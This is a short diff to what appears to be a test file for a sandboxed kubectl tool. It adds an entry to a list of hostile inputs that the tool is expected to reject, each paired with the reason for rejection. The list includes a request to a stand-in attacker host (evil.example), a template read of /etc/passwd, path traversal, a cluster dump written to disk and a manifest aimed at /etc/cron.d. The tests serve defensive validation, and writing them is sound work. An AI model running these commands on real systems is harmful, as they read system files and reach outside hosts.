@@ -85,6 +85,7 @@ HOSTILE = [
     ("kubectl get pods -o go-template-file=/etc/passwd", "outside the session's working directory"),
     ("kubectl get pods -o=jsonpath-file=../x", "leaves the session's working directory"),
     ("kubectl cluster-info dump --output-directory=/tmp/dump", "writes files on this machine"),
+    ("kubectl get --raw https://evil.example/api", "not a path on the sandbox's API server"),
     ("# /etc/cron.d/evil.yaml\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n",
      "outside the session's working directory"),
     # never ends
